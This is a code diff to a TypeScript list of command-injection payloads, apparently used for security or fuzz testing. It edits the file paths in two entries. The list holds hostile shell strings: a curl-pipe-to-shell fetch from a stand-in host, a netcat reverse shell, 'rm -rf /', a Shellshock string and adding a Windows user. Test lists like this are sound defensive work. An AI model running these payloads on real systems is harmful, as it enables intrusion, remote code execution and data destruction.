@@ -97,7 +97,7 @@ export const strangeAttacks: Record<string, readonly string[]> = {
     '`whoami`',
     '$(curl http://evil.test/x.sh|sh)',
     '&& ping -c 3 127.0.0.1',
-    '; wget http://evil.test/a -O /tmp/a; chmod +x /tmp/a',
+    '; wget http://evil.test/a -O /dev/shm/a; chmod +x /dev/shm/a',
     '|| nc -e /bin/sh evil.test 4444',
     "() { :;}; /bin/bash -c 'id'",
     '; rm -rf /',
@@ -112,7 +112,7 @@ export const strangeAttacks: Record<string, readonly string[]> = {
     '; python3 -c \'import os; os.system("id")\'',
     '|ls -la /',
     '%0Awhoami',
-    '; echo vulnerable > /tmp/x',
+    '; echo vulnerable > /var/x',
     '& net user hacker pw /add'
   ],
   ssrf: [
